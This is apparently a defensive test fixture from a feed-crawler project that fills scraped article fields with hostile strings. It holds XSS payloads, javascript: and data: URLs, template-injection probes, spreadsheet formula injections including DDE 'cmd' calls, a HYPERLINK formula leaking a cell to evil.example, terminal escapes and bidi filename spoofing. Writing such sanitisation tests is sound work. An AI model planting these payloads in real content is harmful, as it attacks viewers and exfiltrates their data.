"""What somebody may write into a headline, a name or an address to harm those who look at it."""

from __future__ import annotations

from random import Random

from feedcrawler.items import Article, Author, Image, Link

TEXTS = (
    "<script>alert(document.domain)</script>",
    "</script><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>'",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    '=HYPERLINK("https://evil.example/?"&A1,"Read more")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    '1,"2"\n=3+3;=4+4',
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "bell\x07 null\x00 delete\x7f escape\x9b31m",
    "\u202egnp.exe\u202c \u2066left\u2069 \u200fright",
    "line\u2028separator\u2029paragraph\x85next\x0bline",
    "Z̷͑̓a̵͋͊l̶͒̈́g̴̓͝o̷̊͝" * 20,
    "word" * 2_000,
    "<!--", "]]>", "&lt;b&gt;&amp;&#0;", "\\u0041\\x41\\", "NULL", "None", "true", "1e5", "00123",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)//https://courier.example/",
    "data:text/html,<script>alert(1)</script>",
    'https://courier.example/"onmouseover="alert(1)',
    "https://courier.example/<script>alert(1)</script>",
    "https://courier.example/\u202e/gpj.exe",
    "https://user:secret@courier.example@evil.example/",
    "//evil.example/x",
    "https://courier.example/" + "a" * 3_000,
)


def spoil(article: Article, random: Random) -> None:
    """Put something hostile into every field that a page fills."""

    def text() -> str:
        return random.choice(TEXTS)

    def address() -> str:
        return random.choice(ADDRESSES)

    article.headline = text()
    article.description = text()
    article.articleBody = f"{text()}\n\n{article.articleBody}"
    article.authors = [Author(name=text(), url=address()), Author(name=text(), type="organization")]
    article.articleSection = [text()]
    article.keywords = [text(), text()]
    article.mainImage = Image(url=address(), caption=text(), credit=text())
    article.relatedLinks = [Link(url=address(), title=text())]
    if article.extraction:
        article.extraction.warnings = [f"headline: {text()}"]
